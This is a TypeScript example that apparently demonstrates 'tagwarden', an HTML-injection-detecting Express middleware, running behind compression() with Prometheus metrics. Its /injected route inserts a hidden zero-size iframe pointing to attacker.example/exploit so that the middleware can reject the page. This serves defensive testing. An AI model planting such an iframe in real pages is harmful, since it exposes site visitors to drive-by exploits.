/**
 * tagwarden as Express middleware, behind compression(), with its metrics on /metrics.
 *
 *   PORT=3000 node --import tsx examples/express.ts
 *
 * then open http://127.0.0.1:3000/, /injected (the page with an attack <iframe> inserted: a 502),
 * /catalogue.json (not HTML: untouched) and /metrics. compression() is registered before tagwarden,
 * so tagwarden reads the page uncompressed and the browser still gets it gzip- or br-compressed.
 * (In your code: `import { middleware } from 'tagwarden/embed'`.)
 */
import { readFileSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import compression from 'compression'
import express from 'express'
import { Registry } from 'prom-client'
import { middleware } from '../src/entries/embed.js'

const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'
const registry = new Registry()

const app = express()
app.use(compression())
app.use(
  middleware({
    policy: new URL('./policies/learned.json', import.meta.url),
    registry, // tagwarden_responses_total{site="shop",…}, the names `tagwarden proxy` uses
    site: 'shop',
    onViolation: (v, req) =>
      console.log(`violation: ${v.directive} <${v.element} ${v.attribute}="${v.value}"> on ${req.url}`),
  }),
)
app.get('/', (_req, res) => void res.send(page))
app.get('/injected', (_req, res) => void res.send(page.replace('<main>', `<main>${ATTACK}`)))
app.get('/catalogue.json', (_req, res) => void res.json([{ id: 1, name: 'Teapot' }]))
app.get('/metrics', async (_req, res) => void res.type(registry.contentType).send(await registry.metrics()))

const server = app.listen(Number(process.env.PORT ?? 3000), '127.0.0.1', () => {
  console.log(`listening on http://127.0.0.1:${(server.address() as AddressInfo).port}`)
})
